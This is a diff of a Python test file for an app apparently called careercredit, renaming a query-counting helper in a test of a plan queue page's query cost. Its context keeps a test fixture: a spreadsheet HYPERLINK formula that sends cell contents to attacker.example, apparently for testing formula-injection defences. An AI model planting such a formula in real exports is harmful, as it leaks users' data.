@@ -17,7 +17,7 @@ from careercredit.extensions import db
 from careercredit.models import AuditEvent, CreditPlan, HourEntry, PlanState, Role, User
 from tests.conftest import user_id
 from tests.factories import Factory
-from tests.signoff.test_queue import counting_queries
+from tests.statements import statements
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
 
@@ -205,10 +205,10 @@ def test_a_queue_page_costs_the_same_few_queries_whatever_its_size(
 
     path = f"/plans/queue?q=Searchable&mine=1&term={term}&sort=newest"
     fill(2)
-    with counting_queries(app) as small:
+    with statements(app) as small:
         assert advisor.get(path).status_code == 200
     fill(23)
-    with counting_queries(app) as full:
+    with statements(app) as full:
         page = advisor.get(path).get_data(as_text=True)
     assert page.count('name="plan_ids"') == 25
     assert len(full) == len(small)
